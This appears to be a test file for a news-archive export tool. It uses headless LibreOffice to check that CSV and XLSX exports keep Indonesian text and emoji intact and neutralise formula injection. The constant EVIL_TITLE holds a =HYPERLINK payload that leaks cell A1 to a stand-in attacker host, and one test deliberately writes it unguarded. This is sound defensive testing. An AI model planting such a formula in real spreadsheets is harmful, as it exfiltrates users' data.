import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { test } from 'node:test';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { importFiles, openArchive } from './dup-helpers.js';
import { fixture } from './helpers.js';

/*
 * Exports opened by a real spreadsheet: LibreOffice converts them headless, and what it made is
 * read back. Skipped, with the reason printed, where LibreOffice is not installed (`.ci/run`
 * installs libreoffice-calc-nogui).
 */

const soffice = spawnSync('soffice', ['--version'], { encoding: 'utf8' });
const missing = soffice.error || soffice.status !== 0 ? 'LibreOffice (soffice) is not installed; apt-get install -y --no-install-recommends libreoffice-calc-nogui' : false;
if (missing) console.log(`# skipping the LibreOffice tests: ${missing}`);

const EVIL_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik di sini")';
const EMOJI_TITLE = 'Harga beras naik, warga antre 🍚 di pasar';

/**
 * LibreOffice's conversion of `file` to `to`, in `dir`; `csvOptions` are its CSV filter's
 * (separator, quote, character set as codes). Its import dialog detects a byte-order mark; run
 * headless, it takes the character set from the options, so they name UTF-8 (76).
 */
function convert(dir: string, file: string, to: string, csvOptions?: string): string {
  const args = ['--headless', '--norestore', `-env:UserInstallation=${pathToFileURL(join(dir, 'lo-profile')).href}`];
  if (csvOptions && file.endsWith('.csv')) args.push(`--infilter=CSV:${csvOptions}`);
  args.push('--convert-to', to, '--outdir', join(dir, 'converted'), file);
  const r = spawnSync('soffice', args, { encoding: 'utf8', timeout: 120_000 });
  assert.equal(r.status, 0, `soffice ${args.join(' ')}\n${r.stdout}\n${r.stderr}`);
  return join(dir, 'converted', `${basename(file).replace(/\.[^.]+$/, '')}.${to.split(':')[0]}`);
}

async function firstSheet(file: string): Promise<ExcelJS.Worksheet> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(file);
  return book.worksheets[0]!;
}

/** The title cell of each row, keyed by the id in the first column. */
function titles(sheet: ExcelJS.Worksheet): Map<string, ExcelJS.Cell> {
  const out = new Map<string, ExcelJS.Cell>();
  for (let i = 2; i <= sheet.rowCount; i++) out.set(String(sheet.getRow(i).getCell(1).value), sheet.getRow(i).getCell(2));
  return out;
}

test('LibreOffice opens a CSV export with its text intact and an injected formula as text', { skip: missing, timeout: 300_000 }, async (t) => {
  const { wb, dir } = await openArchive(t);
  await importFiles(wb, [fixture('export', 'artikel.jsonl')]);
  const csv = join(dir, 'artikel.csv');
  await wb.export({ kind: 'articles', out: csv, columns: ['id', 'title', 'persons'], sort: 'oldest' });

  const sheet = await firstSheet(convert(dir, csv, 'xlsx', '44,34,76,1'));
  const byId = titles(sheet);
  assert.equal(byId.get('3')?.value, EMOJI_TITLE, 'emoji and Indonesian text survive');
  assert.equal(byId.get('1')?.value, 'Presiden Jokowi bertemu PM Albanese di Jakarta; bahas "kerja sama" energi');
  const evil = byId.get('2')!;
  assert.equal(evil.type, ExcelJS.ValueType.String, 'text, not a formula');
  assert.equal(evil.formula, undefined);
  assert.equal(evil.value, `'${EVIL_TITLE}`);

  // The check can fail: the same cell without the guard is taken as a formula.
  const raw = join(dir, 'raw.csv');
  writeFileSync(raw, `\ufeffid,title\r\n2,${Papa.unparse([[EVIL_TITLE]], { escapeFormulae: false })}\r\n`);
  const unguarded = titles(await firstSheet(convert(dir, raw, 'xlsx', '44,34,76,1'))).get('2')!;
  assert.equal(unguarded.type, ExcelJS.ValueType.Formula, 'an unguarded =HYPERLINK is a formula to LibreOffice');
});

test('LibreOffice reads the semicolon preset with ; as separator', { skip: missing, timeout: 300_000 }, async (t) => {
  const { wb, dir } = await openArchive(t);
  await importFiles(wb, [fixture('export', 'artikel.jsonl')]);
  const csv = join(dir, 'titik-koma.csv');
  await wb.export({ kind: 'articles', out: csv, columns: ['id', 'title'], sort: 'oldest', delimiter: ';' });
  const byId = titles(await firstSheet(convert(dir, csv, 'xlsx', '59,34,76,1')));
  assert.equal(byId.get('1')?.value, 'Presiden Jokowi bertemu PM Albanese di Jakarta; bahas "kerja sama" energi', 'the ; inside the title stays in its cell');
  assert.equal(byId.get('5')?.value, 'Catatan redaksi tanpa tanggal');
});

test('LibreOffice opens a workbook export: text, numbers and dates as written, the formula-like title as text', { skip: missing, timeout: 300_000 }, async (t) => {
  const { wb, dir } = await openArchive(t);
  await importFiles(wb, [fixture('export', 'artikel.jsonl')]);
  const xlsx = join(dir, 'artikel.xlsx');
  await wb.export({ kind: 'articles', out: xlsx, columns: ['id', 'title', 'published'], sort: 'oldest' });
  // Back to CSV through LibreOffice: what it shows in each cell, formulas evaluated.
  const csv = convert(dir, xlsx, 'csv:Text - txt - csv (StarCalc):44,34,76,1');
  const rows = Papa.parse<string[]>(readFileSync(csv, 'utf8'), { skipEmptyLines: true }).data;
  const byId = new Map(rows.slice(1).map((r) => [r[0], r]));
  assert.equal(byId.get('2')?.[1], EVIL_TITLE, 'shown as the text it is, not run');
  assert.equal(byId.get('3')?.[1], EMOJI_TITLE);
  assert.equal(byId.get('2')?.[2], '2024-03-05', 'a date cell shown in its date format');
  assert.equal(byId.get('1')?.[2], '2024-03-04 09:30');
  assert.equal(byId.get('5')?.[2], '', 'undated stays empty');
});
